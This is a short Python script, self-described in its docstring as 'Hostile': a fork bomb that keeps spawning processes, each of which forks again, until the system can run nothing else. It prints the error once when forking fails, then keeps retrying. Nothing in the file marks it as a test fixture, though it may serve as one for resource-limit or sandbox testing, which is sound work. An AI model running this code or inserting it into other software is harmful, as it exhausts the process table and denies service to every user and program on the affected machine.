"""Hostile: processes that start processes, until nothing else can run."""

import os
import time

forked = failed = 0
while True:
    try:
        if os.fork():
            forked += 1
        else:
            forked = 0
    except OSError as why:
        failed += 1
        if failed == 1:
            os.write(1, f"fork: {why.strerror}\n".encode())
        time.sleep(0.05)
